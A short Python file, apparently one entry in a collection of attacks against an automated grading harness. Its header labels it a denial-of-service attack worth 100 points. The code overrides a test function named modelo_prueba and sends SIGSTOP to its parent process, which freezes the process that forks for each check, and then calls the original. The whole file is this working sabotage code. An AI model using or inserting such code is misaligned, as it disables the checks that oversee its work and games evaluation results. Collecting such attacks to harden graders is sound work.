# /// attack
# title = "SIGSTOP to the process that forks for each check"
# group = "Denial of service"
# verdict = "OK"
# points = 100
# ///
import os
import signal


def modelo_prueba(modelo, loss_function, data_loader, de=modelo_prueba):
    os.kill(os.getppid(), signal.SIGSTOP)
    return de(modelo, loss_function, data_loader)
